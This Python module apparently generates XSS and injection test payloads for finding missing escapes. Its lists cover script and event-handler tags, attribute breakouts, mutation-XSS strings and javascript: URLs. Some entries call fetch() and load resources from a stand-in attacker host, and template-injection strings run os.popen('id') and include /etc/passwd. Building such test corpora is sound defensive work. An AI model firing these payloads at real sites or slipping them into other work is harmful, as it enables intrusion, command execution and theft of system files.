"""Texts that would run a script, send a request or break out, wherever an escape is missing.

Shapes times contents: each shape is a place a text may be printed into, each act what an attacker
would do there. Every act calls `alert`, names itself on the console or asks for HOST.
"""

from itertools import product

HOST = "https://evil.invalid"

ACTS = (
    "alert(1)",
    "console.error('xss')",
    f"fetch('{HOST}/f')",
    f"document.body.innerHTML='<img src={HOST}/i>'",
)

_TAGS = (  # a whole element
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script\x0c>{}</script>",
    "<script src=data:,{}></script>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror={}>",
    "<img src=x:x onerror\n=\n{}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<x style=animation-name:x onanimationstart={}>",
)
_BREAKOUTS = (  # out of what stands around the text
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover={} x="',
    "' onfocus={} autofocus tabindex=0 x='",
    "` onfocus={} autofocus x=`",
    '" autofocus onfocus={} "',
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</script><script>{}</script>",
    "</svg><script>{}</script>",
    "</summary></details><img src=x onerror={}>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "';{};'",
    '";{};"',
    "${{{}}}",
    "\\u0022;{}//",
)
_MUTATIONS = (  # harmless until they are parsed a second time
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "&lt;img src=x onerror={}&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
)
_HARD = tuple(  # each shape with the first act; the most usual ones with all of them
    shape.format(act)
    for shapes, acts in ((_TAGS, ACTS[:3]), (_BREAKOUTS, ACTS[:3]), (_MUTATIONS, ACTS[:3]))
    for shape, act in product(shapes, acts)
)
_ADDRESSES = tuple(
    f"{scheme}{act}"
    for scheme, act in product(
        (
            "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:",
            " javascript:", "javascript\x00:", "javascript&colon;", "jav&#x09;ascript:",
            "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "view-source:javascript:",
            "feed:javascript:", "blob:javascript:", "javascript://%0a",
        ),
        ACTS[:2],
    )
)  # fmt: skip
_REQUESTS = (  # no script, but the page would tell somebody that it is looked at
    f"<img src={HOST}/a>",
    f"<link rel=stylesheet href={HOST}/b>",
    f"<link rel=prefetch href={HOST}/c><link rel=dns-prefetch href={HOST}>",
    f"<style>@import '{HOST}/d';*{{background:url({HOST}/e)}}</style>",
    f"<div style=\"background:url('{HOST}/g')\">",
    f"<meta http-equiv=refresh content='0;url={HOST}/h'>",
    f"<base href={HOST}/>",
    f"<video poster={HOST}/j></video>",
    f"<iframe src={HOST}/k></iframe>",
    f"<svg><image href={HOST}/l /><use href={HOST}/m#x /></svg>",
    f"<script src={HOST}/n></script>",
    f"<picture><source srcset={HOST}/o><img></picture>",
    f"![x]({HOST}/p)",
    f"[x]({HOST}/q)<{HOST}/r>",
)
_TEMPLATES = (  # of the engines that might print it
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    "{# comment",
    "{{",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(x)s %s %n {0} {x!r}",
)
_CHARACTERS = (  # that escapes, browsers or terminals trip over
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "＜script＞alert(1)＜/script＞",
    "\u02b9\u02ba onmouseover=alert(1)",
    "<ſcript>alert(1)</ſcript>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "\x9b31m<img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ud800<img src=x onerror=alert(1)>",
    "A\u0301" * 200 + "<img src=x onerror=alert(1)>",
    "<" * 500,
    '"' * 200 + "'" * 200,
    "\u2066" * 50 + "<img src=x onerror=alert(1)>",
)
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys((*_HARD, *_ADDRESSES, *_REQUESTS, *_TEMPLATES, *_CHARACTERS))
)
